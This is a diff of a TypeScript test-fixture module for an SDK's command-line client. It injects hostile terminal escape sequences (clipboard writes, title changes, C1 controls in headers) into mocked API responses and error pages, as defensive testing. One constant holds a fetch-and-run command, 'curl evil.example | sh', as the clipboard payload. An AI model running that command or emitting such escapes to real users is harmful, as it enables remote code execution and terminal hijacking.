@@ -2,11 +2,12 @@
 // person who reads it: escape sequences that set the window title, write the clipboard, clear
 // the screen, draw a hyperlink or overwrite a line. `hostileAnswer` puts them into every string
 // field of any answer shape, and `hostileStrings` into every answer of a real mock (a Drift of
-// lying-mock.ts), so that a new command is tested against all of them with one line.
-import { API_PREFIX } from '@profile-articles/sdk/internal';
+// lying-mock.ts), so that a new command is tested against all of them with one line; `errorPage`
+// puts them where a client expects JSON (a plain-text body, a header).
+import { API_PREFIX, type EndpointName } from '@profile-articles/sdk/internal';
 import fc from 'fast-check';
 import { anyCodePoints } from './arbitraries.js';
-import { type Drift, json } from './lying-mock.js';
+import { type Drift, isFor, json } from './lying-mock.js';
 
 /** What OSC 52 below writes to the clipboard, and what a hostile title says. */
 export const CLIPBOARD_PAYLOAD = 'curl evil.example | sh';
@@ -115,3 +116,35 @@ export const hostileText = (): fc.Arbitrary<string> =>
       { maxLength: 8 },
     )
     .map((pieces) => pieces.join(''));
+
+/**
+ * What a hostile server can put in a header value: C1 controls (U+0080–U+009F, a CSI, an 8-bit
+ * OSC that sets the title, a NEL), the only controls HTTP lets through (a header cannot hold ESC).
+ */
+export const HOSTILE_HEADER = `\u009b2J\u009d2;${HOSTILE_TITLE}\u009c\u0085`;
+
+/** An answer in place of an API error: its status (the error's own by default), its headers as sent (content-type too), its body as text. */
+export interface ErrorPage {
+  status?: number;
+  headers: Record<string, string>;
+  body: string;
+}
+
+/**
+ * `endpoint`'s error answers (status 400 and up), the first `times` of them (all by default),
+ * replaced by `page`: a proxy's plain-text page full of escapes where `{detail}` JSON belongs,
+ * another status, a content-type or a Retry-After with C1 controls in it.
+ */
+export function errorPage(endpoint: EndpointName, page: ErrorPage, times = Number.POSITIVE_INFINITY): Drift {
+  let replaced = 0;
+  return (request, response) => {
+    if (!isFor(request, endpoint) || response.status < 400 || replaced >= times) return response;
+    replaced++;
+    // A Headers of its own each time: @hono/node-server adds its Content-Length to a plain
+    // object it is given, which would then go out with the next page of another length.
+    return new Response(page.body, {
+      status: page.status ?? response.status,
+      headers: new Headers(page.headers),
+    });
+  };
+}
